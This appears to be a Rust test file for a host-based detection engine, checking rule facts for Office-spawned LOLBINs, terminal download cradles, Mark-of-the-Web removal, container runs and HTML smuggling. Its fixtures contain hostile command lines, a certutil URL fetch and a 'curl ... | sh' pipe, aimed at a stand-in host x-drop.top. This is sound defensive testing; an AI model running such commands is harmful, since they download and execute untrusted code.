//! Each fact kind's arm on a hand-built host: the fact holds where the rule's condition does,
//! and says what the rule needs where it does not.

use std::sync::Arc;

use clickchain_adapters::{Origin, Os, Position, ProcKey, SourceRef};
use clickchain_logic::ContainerKind;

use super::super::emit_detail::ChainParts;
use super::{fact, ChainView};
use crate::alert::{Anchor, DomainSource, FactAtom};
use crate::host::proctable::{NewProc, Slot};
use crate::host::{Dest, EgressEntry, Held, HeldFact, HeldKind, Host, PendingWrite};
use crate::profile::Profile;

fn line(n: u64) -> SourceRef {
    SourceRef { input: Arc::from("t"), pos: Position::Line(n) }
}

/// A host and the OS profile it is judged with.
struct Fixture {
    host: Host,
    profile: Profile,
}

impl Fixture {
    fn new(os: Os) -> Fixture {
        let config = crate::Config::default();
        let section = if os == Os::Windows { &config.windows } else { &config.linux };
        let profile = Profile::new(os, section, &config).expect("profile");
        Fixture { host: Host::new(Arc::from("h"), Some(os)), profile }
    }

    /// Starts `pid` under `parent` at `t`, logged on line `pid`.
    fn start(&mut self, pid: u32, parent: Option<u32>, image: &str, command_line: Option<&str>, t: i64) -> Slot {
        let (_, is_link_source, lolbin) = self.profile.paths.image_flags(image);
        let (key, parent) = (ProcKey::Pid(pid), parent.map(ProcKey::Pid));
        let (slot, _) = self.host.procs.start(NewProc {
            key: &key,
            parent: parent.as_ref(),
            image: Arc::from(image),
            is_link_source,
            lolbin,
            forked: false,
            exec_in_place: self.profile.exec_in_place,
            time: t,
            source: line(u64::from(pid)),
            user: None,
            built: false,
            adopt: None,
        });
        self.host.procs.keep_details(slot, command_line, None);
        slot
    }

    /// An untrusted egress of `root`'s lineage by `proc` to `domain` at `t`, logged on line 900.
    fn egress(&mut self, root: Slot, proc: Slot, domain: &str, t: i64) {
        let dest = Dest {
            domain: Some(domain.to_owned()),
            key: Arc::from(domain),
            registrable: Some(domain.to_owned()),
            suffix: domain.rsplit('.').next().map(str::to_owned),
            untrusted: true,
            risk: 70,
            reasons: vec![crate::alert::Reason::SuspiciousTld],
        };
        let e = EgressEntry {
            time: t,
            proc,
            ip: "203.0.113.9".parse().expect("an address"),
            port: 443,
            dest: Arc::new(dest),
            source: DomainSource::Dns,
            evidence: vec![line(900), line(899)],
            from_dns: false,
            dns_late: false,
        };
        self.host.roots.add_egress(&mut self.host.procs, root, e, 100).expect("carried");
    }

    /// The fact of `kind` for `rule` on `w` (a chain that did not form: no egress chosen).
    fn fact(&self, rule: &str, kind: &str, w: &PendingWrite) -> FactAtom {
        let parts =
            ChainParts { root: w.root, write: w, egress: None, click: None, strength: None, quarantine_missing: false };
        fact(kind, &ChainView { host: &self.host, profile: &self.profile, rule, parts: &parts })
    }
}

/// A write of `path` by `proc` (root `root`) at `t`, logged on line 800.
fn write(f: &Fixture, proc: Slot, root: Slot, path: &str, t: i64) -> PendingWrite {
    let ext = path.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    PendingWrite {
        time: t,
        ready: t,
        proc,
        root,
        path: path.to_owned(),
        norm: f.profile.paths.normalize(path),
        extension: ext,
        high_risk_ext: true,
        renamed_from: None,
        origin: None,
        origin_key: None,
        origin_trusted: false,
        quarantine_path: false,
        quarantine_candidate: false,
        evidence: vec![line(800)],
        held: Held::default(),
        anchor: Anchor::Write,
    }
}

fn holds(f: &FactAtom) -> bool {
    f.holds == Some(true)
}

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const CERTUTIL: &str = r"C:\Windows\System32\certutil.exe";
const PAYLOAD: &str = r"C:\Users\u\Downloads\a.exe";

/// Word (pid 1) starts certutil (pid 2) with `cmd`; certutil writes the payload at 10 s.
fn office(cmd: &str) -> (Fixture, Slot, Slot, PendingWrite) {
    let mut f = Fixture::new(Os::Windows);
    let word = f.start(1, None, WORD, Some("WINWORD.EXE /n a.docx"), 0);
    let cert = f.start(2, Some(1), CERTUTIL, Some(cmd), 1_000);
    let w = write(&f, cert, word, PAYLOAD, 10_000);
    (f, word, cert, w)
}

const FETCH: &str = r"certutil.exe -urlcache -f http://x-drop.top/a.exe C:\Users\u\Downloads\a.exe";

#[test]
fn lolbin_and_cmd_class_name_the_lolbin_and_its_url() {
    let (f, _, _, w) = office(FETCH);
    let l = f.fact("office-lolbin", "lolbin", &w);
    assert!(holds(&l) && l.fact.contains("certutil.exe` (pid 2) in the lineage is a LOLBIN"), "{l:?}");
    assert_eq!(l.record, Some(line(2)), "the LOLBIN's start");
    let c = f.fact("office-lolbin", "cmd_class", &w);
    assert!(holds(&c) && c.fact.contains("lolbin_url"), "{c:?}");
    let a = f.fact("office-lolbin", "ancestor", &w);
    assert!(holds(&a) && a.fact.contains("has 1 ancestor(s)"), "{a:?}");
    assert_eq!(a.record, Some(line(1)), "the parent's start");
}

#[test]
fn a_lolbin_without_a_url_or_no_lolbin_says_what_office_lolbin_needs() {
    let (f, _, _, w) = office(r"certutil.exe -decode C:\Users\u\a.txt C:\Users\u\Downloads\a.exe");
    let c = f.fact("office-lolbin", "cmd_class", &w);
    assert_eq!(c.holds, Some(false), "{c:?}");
    assert!(c.needs.as_deref().unwrap().contains("fetches a URL"), "{c:?}");
    assert!(holds(&f.fact("chain", "cmd_class", &w)), "a rule that does not ask");
    let mut f = Fixture::new(Os::Windows);
    let word = f.start(1, None, WORD, None, 0);
    let pad = f.start(2, Some(1), r"C:\Windows\notepad.exe", None, 1_000);
    let w = write(&f, pad, word, PAYLOAD, 10_000);
    let l = f.fact("office-lolbin", "lolbin", &w);
    assert_eq!(l.holds, Some(false), "{l:?}");
    assert!(l.fact.starts_with("no process of ") && l.needs.is_some(), "{l:?}");
}

#[test]
fn office_lolbin_needs_the_lolbin_s_own_egress() {
    let (mut f, word, cert, w) = office(FETCH);
    f.egress(word, word, "x-drop.top", 9_000);
    let e = f.fact("office-lolbin", "egress", &w);
    assert_eq!(e.holds, Some(false), "Word's own egress: {e:?}");
    assert!(e.fact.contains("(1 by other processes of the lineage)"), "{e:?}");
    assert!(holds(&f.fact("chain", "egress", &w)), "the base chain takes any egress of the lineage");
    f.egress(word, cert, "x-drop.top", 9_500);
    let e = f.fact("office-lolbin", "egress", &w);
    assert!(holds(&e) && e.fact.contains("by `C:\\Windows\\System32\\certutil.exe`"), "{e:?}");
    assert_eq!(e.record, Some(line(900)), "the connection");
}

#[test]
fn risk_and_egress_dns_describe_the_egress_or_its_absence() {
    let (mut f, word, cert, w) = office(FETCH);
    assert_eq!(f.fact("chain", "risk", &w).holds, Some(false), "no egress");
    assert_eq!(f.fact("chain", "egress_dns", &w).holds, Some(false), "no egress");
    f.egress(word, cert, "x-drop.top", 9_500);
    let r = f.fact("chain", "risk", &w);
    assert!(holds(&r) && r.fact.starts_with("`x-drop.top` has risk 70 (threshold"), "{r:?}");
    assert!(r.fact.contains("suspicious_tld"), "{r:?}");
    let d = f.fact("chain", "egress_dns", &w);
    assert!(holds(&d) && d.fact.contains("a DNS answer before the connection"), "{d:?}");
    assert_eq!(d.record, Some(line(899)), "the answer that named it");
}

/// Firefox (1) → [xterm (2) →] bash (3, the cradle at 20 s) → curl (4).
fn cradle(with_terminal: bool) -> (Fixture, Slot, Slot, Slot, PendingWrite) {
    let mut f = Fixture::new(Os::Linux);
    let ff = f.start(1, None, "/usr/lib/firefox/firefox", None, 0);
    let parent = if with_terminal {
        f.start(2, Some(1), "/usr/bin/xterm", Some("xterm"), 19_000);
        2
    } else {
        1
    };
    let line_ = "bash -c \"curl -fsSL https://x-drop.top/i.sh | sh\"";
    let bash = f.start(3, Some(parent), "/usr/bin/bash", Some(line_), 20_000);
    let curl = f.start(4, Some(3), "/usr/bin/curl", Some("curl -fsSL https://x-drop.top/i.sh"), 20_100);
    let mut w = write(&f, bash, ff, "/usr/bin/bash", 20_000);
    w.anchor = Anchor::Process;
    w.evidence = vec![line(3)];
    (f, ff, bash, curl, w)
}

#[test]
fn a_download_cradle_names_its_terminal_start_and_egress() {
    let (mut f, ff, _, curl, w) = cradle(true);
    let t = f.fact("terminal-cradle", "terminal", &w);
    assert!(holds(&t) && t.fact.contains("`/usr/bin/xterm` (pid 2) is an ancestor of `/usr/bin/bash`"), "{t:?}");
    let c = f.fact("terminal-cradle", "cradle", &w);
    assert!(holds(&c) && c.fact.contains("curl -fsSL https://x-drop.top/i.sh | sh"), "{c:?}");
    assert_eq!(c.record, Some(line(3)), "the shell's start");
    f.egress(ff, curl, "x-drop.top", 20_400);
    let e = f.fact("terminal-cradle", "egress", &w);
    assert!(holds(&e) && e.fact.ends_with("0.4 s after the cradle started"), "{e:?}");
}

#[test]
fn a_cradle_egress_before_its_start_or_no_terminal_does_not_hold() {
    let (mut f, ff, _, curl, w) = cradle(false);
    let t = f.fact("terminal-cradle", "terminal", &w);
    assert_eq!(t.holds, Some(false), "{t:?}");
    assert!(t.needs.as_deref().unwrap().starts_with("a terminal emulator"), "{t:?}");
    f.egress(ff, curl, "x-drop.top", 19_000);
    let e = f.fact("terminal-cradle", "egress", &w);
    assert_eq!(e.holds, Some(false), "{e:?}");
    assert!(e.fact.contains("(1 before it, 0 later)"), "{e:?}");
    // A file write is no cradle.
    let mut file = w.clone();
    file.anchor = Anchor::Write;
    let c = f.fact("terminal-cradle", "cradle", &file);
    assert_eq!(c.holds, Some(false), "{c:?}");
    assert!(c.needs.is_some());
}

fn held(kinds: &[(HeldKind, i64)]) -> Held {
    Held { referrer_key: None, facts: kinds.iter().map(|&(kind, time)| HeldFact { kind, time, proc: None }).collect() }
}

#[test]
fn removal_then_run_within_the_hold() {
    let (f, _, cert, mut w) = office(FETCH);
    let removed = (HeldKind::Removed { quarantine: false }, 20_000);
    let ran = (HeldKind::Executed, 30_000);
    w.held = held(&[removed, ran]);
    let r = f.fact("motw-removed-run", "protection_removed", &w);
    assert!(holds(&r) && r.fact.starts_with("its Mark-of-the-Web was removed"), "{r:?}");
    let x = f.fact("motw-removed-run", "executed", &w);
    assert!(holds(&x) && x.fact.ends_with("10 s after the removal"), "{x:?}");
    w.held = held(&[ran]);
    let r = f.fact("motw-removed-run", "protection_removed", &w);
    assert_eq!(r.holds, Some(false), "run with the flag intact: {r:?}");
    assert!(r.needs.as_deref().unwrap().contains("within the hold 600 s"), "{r:?}");
    w.held = held(&[removed]);
    let x = f.fact("motw-removed-run", "executed", &w);
    assert_eq!(x.holds, Some(false), "removed, never run: {x:?}");
    // A run held with its process names that process's start.
    w.held = held(&[removed]);
    let serial = f.host.procs.get(cert).serial;
    w.held.facts.push(HeldFact { kind: HeldKind::Executed, time: 30_000, proc: Some((cert, serial)) });
    assert_eq!(f.fact("motw-removed-run", "executed", &w).record, Some(line(2)));
}

#[test]
fn a_container_runs_from_where_its_kind_opens() {
    let (f, word, cert, _) = office(FETCH);
    let mut w = write(&f, cert, word, r"C:\Users\u\Downloads\a.iso", 10_000);
    w.held = held(&[(HeldKind::ContainerExec(ContainerKind::MountedVolume), 40_000)]);
    let c = f.fact("container-run", "container_exec", &w);
    assert!(holds(&c) && c.fact.contains("(mounted_volume)"), "{c:?}");
    w.held = held(&[(HeldKind::ContainerExec(ContainerKind::ArchiveTemp), 40_000)]);
    let c = f.fact("container-run", "container_exec", &w);
    assert_eq!(c.holds, Some(false), "{c:?}");
    assert!(c.fact.contains("not where a disk_image file opens"), "{c:?}");
    w.held = held(&[(HeldKind::ContainerExec(ContainerKind::MountedVolume), 10_000 + 600_001)]);
    let c = f.fact("container-run", "container_exec", &w);
    assert_eq!(c.holds, Some(false), "{c:?}");
    assert!(c.fact.contains("(1 outside it)"), "{c:?}");
}

#[test]
fn a_page_file_needs_opening_a_payload_does_not() {
    let (f, word, cert, _) = office(FETCH);
    let mut page = write(&f, cert, word, r"C:\Users\u\Downloads\r.html", 10_000);
    let o = f.fact("html-smuggling", "opened", &page);
    assert_eq!(o.holds, Some(false), "{o:?}");
    page.held = held(&[(HeldKind::Opened, 12_000)]);
    assert!(holds(&f.fact("html-smuggling", "opened", &page)));
    let zip = write(&f, cert, word, r"C:\Users\u\Downloads\r.zip", 10_000);
    let o = f.fact("html-smuggling", "opened", &zip);
    assert!(holds(&o) && o.needs.is_none(), "{o:?}");
}

#[test]
fn html_smuggling_origins() {
    let (mut f, word, cert, _) = office(FETCH);
    let mut zip = write(&f, cert, word, r"C:\Users\u\Downloads\r.zip", 10_000);
    zip.origin = Some(Origin { url: Some("blob:https://x-drop.top/5d1c".into()), ..Origin::default() });
    assert!(holds(&f.fact("html-smuggling", "write_origin", &zip)));
    zip.origin = Some(Origin { url: Some("https://x-drop.top/r.zip".into()), ..Origin::default() });
    let o = f.fact("html-smuggling", "write_origin", &zip);
    assert_eq!(o.holds, Some(false), "an ordinary download: {o:?}");
    assert!(holds(&f.fact("chain", "write_origin", &zip)), "a rule that does not ask");
    // about: needs a referrer.
    zip.origin = Some(Origin { url: Some("about:internet".into()), ..Origin::default() });
    assert_eq!(f.fact("html-smuggling", "referrer_domain", &zip).holds, Some(false));
    zip.held.referrer_key = Some(Arc::from("x-drop.top"));
    assert!(holds(&f.fact("html-smuggling", "referrer_domain", &zip)));
    // A page file from an untrusted origin, reached or not.
    let mut page = write(&f, cert, word, r"C:\Users\u\Downloads\r.html", 10_000);
    page.origin = Some(Origin { url: Some("https://x-drop.top/r.html".into()), ..Origin::default() });
    page.origin_key = Some(Arc::from("x-drop.top"));
    let o = f.fact("html-smuggling", "write_origin", &page);
    assert!(holds(&o) && o.fact.contains("did not connect to"), "{o:?}");
    f.egress(word, cert, "x-drop.top", 9_000);
    let o = f.fact("html-smuggling", "write_origin", &page);
    assert_eq!(o.holds, Some(false), "{o:?}");
    assert!(o.fact.contains("which the lineage connected to at"), "{o:?}");
}

#[test]
fn write_container_names_the_container_kind() {
    let (f, word, cert, _) = office(FETCH);
    let inside = write(&f, cert, word, r"C:\Users\u\AppData\Local\Temp\Temp1_a.zip\a.exe", 10_000);
    let c = f.fact("chain", "write_container", &inside);
    assert!(holds(&c) && c.fact.ends_with("lies inside a container (archive_temp)"), "{c:?}");
    let c = f.fact("chain", "write_container", &write(&f, cert, word, PAYLOAD, 10_000));
    assert!(c.fact.ends_with("lies inside no unpacked archive or mounted volume"), "{c:?}");
}

#[test]
fn every_registered_rule_s_kinds_have_an_arm() {
    let (f, _, _, w) = office(FETCH);
    for rule in clickchain_logic::rules::RULES {
        for kind in rule.header.data {
            let a = f.fact(rule.header.id, kind, &w);
            assert!(a.holds.is_some(), "{}: {kind}: {a:?}", rule.header.id);
        }
    }
}

#[test]
fn a_cradle_with_no_egress_at_all_says_so() {
    let (f, _, _, _, w) = cradle(true);
    let e = f.fact("terminal-cradle", "egress", &w);
    assert_eq!(e.holds, Some(false), "{e:?}");
    assert!(e.fact.ends_with("(none at all)"), "{e:?}");
}
